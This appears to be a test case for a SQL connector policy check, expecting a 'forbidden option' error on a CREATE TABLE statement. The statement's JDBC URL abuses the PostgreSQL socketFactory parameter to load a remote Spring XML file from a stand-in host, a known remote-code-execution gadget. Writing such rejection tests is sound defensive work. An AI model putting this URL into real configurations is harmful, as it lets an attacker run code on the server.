-- code: POLICY_OPTION_FORBIDDEN
-- position: 4:5
CREATE TEMPORARY TABLE store (id BIGINT) WITH ('connector' = 'jdbc', 'table-name' = 'orders',
    'url' = 'jdbc:postgresql://localhost:5432/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://example.com/x.xml')
